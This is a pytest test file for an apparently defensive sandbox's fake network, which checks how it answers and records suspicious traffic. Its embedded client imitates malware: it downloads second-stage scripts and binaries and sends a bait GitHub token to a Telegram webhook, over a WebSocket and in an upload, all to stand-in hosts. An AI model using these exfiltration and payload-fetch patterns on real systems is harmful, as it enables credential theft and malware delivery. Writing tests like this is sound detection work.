"""The answering fake internet, seen from inside its namespace: what each kind of request gets back
and what is recorded (second stages, binaries, APIs, webhooks, DoH, WebSocket, CONNECT, capture
limits, reserved names). Clients are real processes in the namespace; nothing reaches a real host.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from osptrack.sandbox.fakenet import FakeNetwork
from osptrack.sandbox.fakenet.answers import choose
from osptrack.sandbox.fakenet.stages import elf_stub, pe_stub, script

needs_root_net = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("nft") or not shutil.which("ip"),
    reason="needs root, nftables and iproute2 (installed by .ci/run)",
)

TOKEN = "ghp_HONEYtoken0123456789abcdefABCDEF"  # a bait value; harmless, never valid anywhere

CLIENT = r"""
import base64, json, os, socket, ssl, struct, sys, urllib.request
from dnslib import DNSRecord

ca_file, token = sys.argv[1], sys.argv[2]
ctx = ssl.create_default_context(cafile=ca_file)
seen = {}

def get(url, headers=None, data=None, method=None):
    req = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(req, timeout=10, context=ctx) as resp:
            return resp.status, resp.headers.get("Content-Type"), resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers.get("Content-Type"), exc.read()

st, ct, body = get("https://cdn.answers.example.com/payload/run.py")
seen["py"] = [st, ct, body.decode()]
st, ct, body = get("http://203.0.113.20/dl/update.exe")
seen["exe"] = [st, ct, base64.b64encode(body).decode()]
st, ct, body = get("https://cdn.answers.example.com/dl/agent", headers={"Accept": "application/octet-stream"})
seen["elf"] = [st, ct, base64.b64encode(body).decode()]
seen["api"] = list(get("https://api.answers.example.com/v2/users", headers={"Accept": "application/json"})[:3:2])
seen["api"][1] = seen["api"][1].decode()
seen["telegram"] = get("https://api.telegram.org/bot123456:AAbbCCddEEffGGhhIIjj/sendMessage",
                       data=b"chat_id=1&text=" + token.encode())[2].decode()
seen["html"] = get("https://www.answers.example.com/")[1]
seen["head"] = list(get("https://www.answers.example.com/", method="HEAD")[::2])
seen["head"][1] = seen["head"][1].decode()

# DNS over HTTPS: RFC 8484 GET and POST, and the JSON API.
q = DNSRecord.question("doh-get.answers.example.com").pack()
st, ct, body = get("https://dns.google/dns-query?dns=" + base64.urlsafe_b64encode(q).decode().rstrip("="),
                   headers={"Accept": "application/dns-message"})
seen["doh_get"] = [st, ct, [str(rr.rdata) for rr in DNSRecord.parse(body).rr]]
st, ct, body = get("https://cloudflare-dns.com/dns-query", data=DNSRecord.question("doh-post.answers.example.com").pack(),
                   headers={"Content-Type": "application/dns-message"})
seen["doh_post"] = [st, [str(rr.rdata) for rr in DNSRecord.parse(body).rr]]
st, ct, body = get("https://dns.google/resolve?name=doh-json.answers.example.com&type=A")
seen["doh_json"] = [st, ct, json.loads(body)["Answer"][0]["data"]]

# WebSocket over TLS: upgrade, one masked text frame carrying the token, a ping, a close.
raw = ctx.wrap_socket(socket.create_connection(("ws.answers.example.com", 443), timeout=10),
                      server_hostname="ws.answers.example.com")
raw.sendall(b"GET /socket HTTP/1.1\r\nHost: ws.answers.example.com\r\nUpgrade: websocket\r\n"
            b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += raw.recv(4096)
seen["ws_status"] = head.split(b"\r\n")[0].decode()
def frame(opcode, payload):
    mask = b"\x01\x02\x03\x04"
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
raw.sendall(frame(1, ("stolen=" + token).encode()) + frame(9, b"hb"))
pong = raw.recv(64)
seen["ws_pong"] = [pong[0] & 0x0F, pong[2:].decode()]
raw.sendall(frame(8, b"\x03\xe8"))
seen["ws_close"] = raw.recv(64)[0] & 0x0F
raw.close()

# An HTTP proxy CONNECT to an arbitrary address, then TLS inside the tunnel.
s = socket.create_connection(("198.51.100.77", 8080), timeout=10)
s.sendall(b"CONNECT tunnelled.answers.example.com:443 HTTP/1.1\r\nHost: tunnelled.answers.example.com:443\r\n\r\n")
seen["connect"] = s.recv(4096).split(b"\r\n")[0].decode()
t = ctx.wrap_socket(s, server_hostname="tunnelled.answers.example.com")
t.sendall(b"GET /inside HTTP/1.1\r\nHost: tunnelled.answers.example.com\r\nConnection: close\r\n\r\n")
seen["tunnel"] = t.recv(4096).split(b"\r\n")[0].decode()
t.close()

# A body larger than the capture limit, chunked, with the token at its very end.
big = b"A" * 300_000 + token.encode()
req = urllib.request.Request("https://upload.answers.example.com/big", data=iter([big[:150_000], big[150_000:]]),
                             headers={"Content-Type": "application/octet-stream"}, method="PUT")
with urllib.request.urlopen(req, timeout=10, context=ctx) as resp:
    seen["big"] = resp.status

# Reserved names get NXDOMAIN; others a sinkhole.
def rcode(name):
    reply = DNSRecord.parse(DNSRecord.question(name).send("8.8.8.8", 53, timeout=5))
    return reply.header.rcode, [str(rr.rdata) for rr in reply.rr]
seen["dns"] = {n: rcode(n) for n in ("x.invalid", "a.b.test", "host.example", "localhost", "svc.localhost",
                                      "ok.example.com")}
print(json.dumps(seen))
"""


@pytest.fixture(scope="module")
def answers() -> Iterator[dict[str, Any]]:
    if os.geteuid() != 0 or not shutil.which("nft"):
        pytest.fail("needs root and nftables (scripts/setup.sh installs nftables)")
    with FakeNetwork(
        run_id=f"a-{uuid.uuid4().hex[:10]}",
        idle_timeout=2.0,
        tokens={"github_token": TOKEN},
        capture_bytes=200_000,
    ) as net:
        assert net.ca is not None
        net.set_phase("import")
        with tempfile.NamedTemporaryFile("wb", suffix=".pem", delete=False) as fh:
            fh.write(net.ca.cert_pem)
        os.chmod(fh.name, 0o644)
        try:
            proc = subprocess.run(
                [sys.executable, "-c", CLIENT, fh.name, TOKEN],
                preexec_fn=net.enter_netns,
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
        finally:
            os.unlink(fh.name)
        assert proc.returncode == 0, proc.stderr
        yield {
            "seen": json.loads(proc.stdout),
            "records": net.records(),
            "exfil": net.exfiltration(),
            "net": net,
            "health": net.health(),
        }


def _tcp(records: list[dict[str, Any]], host: str) -> list[dict[str, Any]]:
    return [r for r in records if r["kind"] == "tcp" and r.get("hostname") == host]


@needs_root_net
def test_second_stages_and_binaries_are_served(answers: dict[str, Any]) -> None:
    seen, marker = answers["seen"], answers["net"].marker
    assert seen["py"][0] == 200 and seen["py"][1] == "text/x-python" and marker in seen["py"][2]
    st, ct, exe = seen["exe"]
    assert (st, ct) == (200, "application/x-msdownload") and base64.b64decode(exe)[:2] == b"MZ"
    st, ct, elf = seen["elf"]
    assert (st, ct) == (200, "application/octet-stream") and base64.b64decode(elf) == elf_stub(marker)
    (flow,) = _tcp(answers["records"], "cdn.answers.example.com")[:1]
    assert flow["served"][0]["kind"] == "script" and flow["served"][0]["marker"] == marker


@needs_root_net
def test_apis_webhooks_html_and_head(answers: dict[str, Any]) -> None:
    seen = answers["seen"]
    assert seen["api"] == [200, "{}"]
    assert json.loads(seen["telegram"]) == {"ok": True, "result": {}}
    assert seen["html"] == "text/html; charset=utf-8"
    assert seen["head"] == [200, ""]  # HEAD: headers only
    (tg,) = _tcp(answers["records"], "api.telegram.org")
    assert tg["served"][0]["service"] == "telegram"
    found = [f for f in answers["exfil"] if f["flow"].get("dst_port") == 443 and f["kind"] == "github_token"]
    assert found, answers["exfil"]


@needs_root_net
def test_dns_over_https_is_answered_as_dns_and_logged(answers: dict[str, Any]) -> None:
    seen, records = answers["seen"], answers["records"]
    for key in ("doh_get", "doh_post", "doh_json"):
        assert seen[key][0] == 200
    assert seen["doh_get"][1] == "application/dns-message" and seen["doh_get"][2][0].startswith("198.18.")
    assert seen["doh_post"][1][0].startswith("198.18.")
    assert seen["doh_json"][1] == "application/dns-json" and seen["doh_json"][2].startswith("198.18.")
    doh = {r["qname"]: r for r in records if r["kind"] == "dns" and r.get("via") == "doh"}
    assert set(doh) >= {f"doh-{k}.answers.example.com" for k in ("get", "post", "json")}
    assert doh["doh-get.answers.example.com"]["server_port"] == 443
    # The name handed out over DoH maps back like any other.
    assert answers["net"].hostnames_for(seen["doh_get"][2][0]) == ["doh-get.answers.example.com"]


@needs_root_net
def test_websocket_upgrade_is_accepted_and_frames_captured(answers: dict[str, Any]) -> None:
    seen = answers["seen"]
    assert seen["ws_status"] == "HTTP/1.1 101 Switching Protocols"
    assert seen["ws_pong"] == [0xA, "hb"] and seen["ws_close"] == 0x8
    (flow,) = _tcp(answers["records"], "ws.answers.example.com")
    assert flow["tls"]["intercepted"] is True and flow["served"][0]["kind"] == "websocket"
    (msg,) = flow["websocket"]
    assert msg["opcode"] == "text" and base64.b64decode(msg["data"]) == f"stolen={TOKEN}".encode()
    assert any(f["flow"]["dst"] == flow["dst"] for f in answers["exfil"]), "token in a WebSocket frame missed"


@needs_root_net
def test_connect_tunnel_is_served_and_tls_inside_intercepted(answers: dict[str, Any]) -> None:
    seen = answers["seen"]
    assert seen["connect"] == "HTTP/1.1 200 Connection established"
    assert seen["tunnel"] == "HTTP/1.1 200 OK"
    (flow,) = [r for r in answers["records"] if r["kind"] == "tcp" and r["dst"] == "198.51.100.77"]
    assert flow["tls"]["sni"] == "tunnelled.answers.example.com" and flow["tls"]["intercepted"] is True
    assert [r["target"] for r in flow["requests"]] == ["tunnelled.answers.example.com:443", "/inside"]


@needs_root_net
def test_capture_limit_marks_truncation_and_keeps_the_head(answers: dict[str, Any]) -> None:
    assert answers["seen"]["big"] == 204
    (flow,) = _tcp(answers["records"], "upload.answers.example.com")
    assert flow["truncated"] is True and flow["bytes"] > 300_000
    (req,) = flow["requests"]
    assert req["method"] == "PUT" and req["body_bytes"] == 300_000 + len(TOKEN)
    assert req["truncated"] is True and len(base64.b64decode(req["body"])) <= 200_000
    # The token sat past the limit: not seen, and nothing pretends otherwise.
    assert not [f for f in answers["exfil"] if f["flow"]["dst"] == flow["dst"]]


@needs_root_net
def test_reserved_names_get_nxdomain_and_are_still_recorded(answers: dict[str, Any]) -> None:
    dns = answers["seen"]["dns"]
    for name in ("x.invalid", "a.b.test", "host.example", "localhost", "svc.localhost"):
        assert dns[name] == [3, []], name  # NXDOMAIN
    assert dns["ok.example.com"][0] == 0 and dns["ok.example.com"][1][0].startswith("198.18.")
    logged = {r["qname"]: r for r in answers["records"] if r["kind"] == "dns"}
    assert logged["x.invalid"]["rcode"] == "NXDOMAIN" and "rcode" not in logged["ok.example.com"]
    assert answers["health"]["errors"] == 0, answers["health"]


# --------------------------------------------------------------------------- policy (no root needed)


def test_answer_policy_by_method_path_and_accept() -> None:
    m = "/tmp/.s000000000000"
    assert choose("POST", "/api/webhooks/1/x", {}, m).status == 204
    assert choose("POST", "/services/T/B/X", {"host": "hooks.slack.com"}, m).body == b"ok"
    assert choose("GET", "/a/b.SH?x=1", {}, m).kind == "script"
    assert choose("GET", "/x.ps1", {}, m).detail["lang"] == "ps1"
    assert choose("GET", "/x.dll", {}, m).body[:2] == b"MZ"
    assert choose("GET", "/x", {"accept": "application/octet-stream"}, m).detail["format"] == "elf"
    assert choose("GET", "/x", {"accept": "application/json"}, m).body == b"{}"
    assert choose("POST", "/x", {"content-type": "application/json"}, m).body == b"{}"
    assert choose("POST", "/upload", {}, m).status == 204
    assert choose("GET", "/", {}, m).kind == "html"
    # A POST of a .sh path is an upload, not a download: no script comes back.
    assert choose("POST", "/x.sh", {}, m).kind == "post"


def test_stage_scripts_name_the_marker_and_pe_is_well_formed() -> None:
    m = "/tmp/.sabcdefabcdef"
    for lang in ("sh", "py", "ps1", "js", "rb", "php"):
        assert m.encode() in script(lang, m)
    pe = pe_stub()
    offset = int.from_bytes(pe[0x3C:0x40], "little")
    assert pe[:2] == b"MZ" and pe[offset : offset + 4] == b"PE\0\0"
    assert int.from_bytes(pe[offset + 4 : offset + 6], "little") == 0x14C
    elf = elf_stub(m)
    assert elf[:4] == b"\x7fELF" and elf.endswith(m.encode() + b"\0")
    assert int.from_bytes(elf[24:32], "little") == 0x400000 + 120  # entry right after the headers
